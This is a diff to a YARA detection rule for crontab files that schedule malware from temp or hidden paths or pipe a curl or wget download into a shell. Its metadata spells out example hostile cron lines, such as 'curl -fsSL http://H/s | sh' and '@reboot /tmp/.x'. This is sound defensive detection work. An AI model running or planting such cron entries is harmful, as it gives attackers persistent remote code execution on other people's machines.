@@ -1336,12 +1336,22 @@ rule bot_crontab_file_payload : bot
         technique = "*/5 * * * * curl -fsSL http://H/s | sh; @reboot /tmp/.x; * * * * * cd /dev/shm && ./.k, as a file"
         seen = "none"
     strings:
-        // a schedule at the start of a line: five fields or an @keyword
-        $ln = /(^|\n)[ \t]{0,4}(@(reboot|hourly|daily|weekly|monthly|midnight)|[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12})[ \t]{1,8}[^\n]{0,200}(\/tmp\/|\/var\/tmp\/|\/dev\/shm\b|\/\.[\w-]{1,30}([ \t]|["';&>)|]|\n|$)|\b(curl|wget|fetch)\s[^\n|]{1,200}\|\s{0,4}((ba|da|z)?sh|perl|python[0-9.]{0,4}|php[0-9.]{0,3})\b)/
+        // A schedule at the start of a line (five fields or an @keyword),
+        // the user field of a system crontab, then the program the line runs:
+        // a temp-dir or hidden path, directly or through nohup/a shell/an
+        // interpreter, or after a cd into a temp dir. A temp path elsewhere on
+        // the line (a log: >> /tmp/cron.log, a lock: flock /tmp/x.lock, a
+        // TMPDIR=) is what legitimate crontabs do, and is not that.
+        $run = /(^|\n)[ \t]{0,4}(@(reboot|hourly|daily|weekly|monthly|midnight|yearly|annually)|[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12})[ \t]{1,8}([a-z_][a-z0-9_.-]{0,31}[ \t]{1,8})?((nohup|exec|setsid|nice|(ba|da|z)?sh|perl|python[0-9.]{0,4}|php[0-9.]{0,3})[ \t]{1,4}){0,2}((\/tmp|\/var\/tmp|\/dev\/shm)\/[^\s;|&>]{1,100}|[^\s;|&>'"]{0,100}\/\.[\w-]{1,30})([ \t;&|>]|\n|$)/
+        $cd = /(^|\n)[ \t]{0,4}(@(reboot|hourly|daily|weekly|monthly|midnight|yearly|annually)|[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12})[ \t]{1,8}([a-z_][a-z0-9_.-]{0,31}[ \t]{1,8})?cd[ \t]{1,4}(\/tmp|\/var\/tmp|\/dev\/shm)[^\s;&|]{0,100}[ \t]{0,4}(&&|;)[ \t]{0,4}(\.\/|nohup |(ba|da|z)?sh |perl |python)/
+        // a download piped into an interpreter
+        $pipe = /(^|\n)[ \t]{0,4}(@(reboot|hourly|daily|weekly|monthly|midnight|yearly|annually)|[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12})[ \t]{1,8}[^\n]{0,200}\b(curl|wget|fetch)\s[^\n|]{1,200}\|\s{0,4}((ba|da|z)?sh|perl|python[0-9.]{0,4}|php[0-9.]{0,3})\b/
         $tag = "<?" ascii
+        $env = /(MAILTO|SHELL|PATH|HOME|CRON_TZ|TZ|LANG)=/
     condition:
         filesize < 16KB and not hs_doc_file and not hs_shebang and not $tag and
-        not hs_lang_shell and not hs_lang_perl and not hs_lang_python and $ln and
-        // the file starts with a comment or a schedule ('#', '@', '*', a digit)
-        (uint8(0) == 0x23 or uint8(0) == 0x40 or uint8(0) == 0x2a or (uint8(0) >= 0x30 and uint8(0) <= 0x39))
+        not hs_lang_shell and not hs_lang_perl and not hs_lang_python and ($run or $cd or $pipe) and
+        // the file starts with a comment, a schedule ('#', '@', '*', a digit)
+        // or one of cron's variables (MAILTO=...)
+        (uint8(0) == 0x23 or uint8(0) == 0x40 or uint8(0) == 0x2a or (uint8(0) >= 0x30 and uint8(0) <= 0x39) or $env at 0)
 }
